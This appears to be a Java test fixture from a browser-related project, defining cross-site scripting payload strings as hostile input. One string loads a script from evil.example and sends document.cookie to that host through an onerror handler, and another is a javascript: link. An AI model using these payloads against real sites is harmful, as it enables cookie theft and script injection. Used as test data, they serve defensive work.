package dev.keysunset.browser;

/** What somebody writes who wants a script of theirs to run in the console. */
final class Hostile {
    /** Breaks out of text, of an attribute in either quotes, and of a script. */
    static final String TEXT = "'\"></script><script src=\"https://evil.example/a.js\"></script>"
            + "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\"><svg onload=alert(1)>{config:x}";

    static final String LINK = "javascript:alert(document.domain)";

    private Hostile() {}
}
